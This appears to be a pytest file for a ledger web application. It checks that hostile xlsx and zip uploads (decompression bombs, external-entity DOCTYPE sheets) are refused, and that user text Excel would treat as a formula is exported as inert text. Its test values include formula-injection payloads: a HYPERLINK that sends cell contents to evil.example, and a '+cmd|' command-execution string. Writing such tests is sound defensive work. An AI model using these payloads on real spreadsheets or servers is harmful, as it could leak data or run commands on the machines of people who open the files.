"""Issue #11 items 4, 10 and 11 against a real server: costly or hostile xlsx uploads are refused
with a 400 naming the file before they cost more than a fraction of a second; text a user typed that
Excel would take for a formula comes back in the export as text.

The hostile workbooks are built in the test (:mod:`tests.hostile`)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from lantian.ingest.excel import append_row, csv_text, read_member
from lantian.ingest.schema import FormatError
from tests import hostile
from tests.web_ledger.helpers import MONTH

ATTACKS = {
    # 4,900 × 1,300 cells, ~300 KB sent, 91 MB unpacked: took 64 s of CPU before
    "wide.xlsx": (lambda: hostile.wide_sheet(4900, 1300), "解压后过大"),
    # just under the unpacked cap but more cells than a template can need
    "many-cells.xlsx": (lambda: hostile.wide_sheet(400, 1300), "单元格超过"),
    # a 95 MB shared-strings part: 56 s and 600 MB before
    "strings.xlsx": (lambda: hostile.shared_strings_bomb(95), "sharedStrings.xml"),
    # DOCTYPE with an external entity: a 500 before
    "entity.xlsx": (hostile.doctype_sheet, "DOCTYPE"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_hostile_workbooks_are_refused_with_400_naming_the_file(visitor, name):
    build, message = ATTACKS[name]
    reporter = visitor("hb")
    response = reporter.post(
        "/ledger/import",
        data={"csrf_token": reporter.csrf},
        files={"workbook": (name, build(), "application/octet-stream")},
        timeout=15,  # each was refused in well under a second; before the fix they took a minute
    )
    assert response.status_code == 400, response.text[:500]
    assert name in response.text
    assert message in response.text


def test_formula_text_is_exported_as_text(visitor):
    office = visitor("office")
    finding = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    response = office.post(
        "/ledger/supervision",
        data={
            "step": "assign",
            "unit": "区住建局",
            "on": f"{MONTH}-12",
            "finding": finding,
            "follow_up_deadline": "",
            "csrf_token": office.csrf,
        },
    )
    assert response.status_code == 303, response.text
    export = office.get(f"/ledger/export.xlsx?month={MONTH}")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content))["督查督办"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == finding]
    assert cells, "the finding is in the export"
    assert all(cell.data_type == "s" for cell in cells)  # text, not a live formula


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-5", "-5"),  # a negative number stays a number
        ("-12.5", "-12.5"),
        (-3, -3),
        ("永州", "永州"),
    ],
)
def test_csv_cells_that_would_run_as_formulas_get_a_quote(value, written):
    """Item 11's class in CSV (no text cells there): the public API's, the CLI's and the source
    registry's CSV writers all go through ``csv_text``."""
    assert csv_text(value) == written


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_text_in_a_streamed_workbook_is_text_too(write_only):
    """Item 11's fix failed in the write-only workbooks that every xlsx of the API streams
    (``lantian.web.tables.Frame``): a text cell had no place yet and openpyxl could not place it,
    so any exported text beginning with ``= + - @`` (a case title, a device's flag, a lone "-")
    answered 500 — the export broken for everyone by one hostile name (found on a real server:
    ``tests/attacks/test_devices.py``)."""
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x")
    append_row(sheet, ["名称", '=HYPERLINK("http://evil.example")', 1.5, None, "-"])
    append_row(sheet, ["+cmd", -2, "@SUM(1)"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = [[(c.value, c.data_type) for c in row] for row in load_workbook(buffer)["x"].iter_rows()]
    assert rows == [
        [("名称", "s"), ('=HYPERLINK("http://evil.example")', "s"), (1.5, "n"), (None, "n"),
         ("-", "s")],
        [("+cmd", "s"), (-2, "n"), ("@SUM(1)", "s"), (None, "n"), (None, "n")],
    ]  # fmt: skip


def test_a_zip_bomb_member_is_refused_before_it_is_inflated(tmp_path):
    """Item 4's class in the data archives (``lantian import x.zip``): a member that declares
    more than the limit is refused by name, nothing inflated."""
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("china_sites_20190101.csv", b"0" * (2**20 + 1))
    with (
        pytest.raises(FormatError, match=r"china_sites_20190101\.csv.*more than"),
        zipfile.ZipFile(path) as archive,
    ):
        read_member(archive, archive.infolist()[0], "bomb.zip!china_sites_20190101.csv", 2**20)
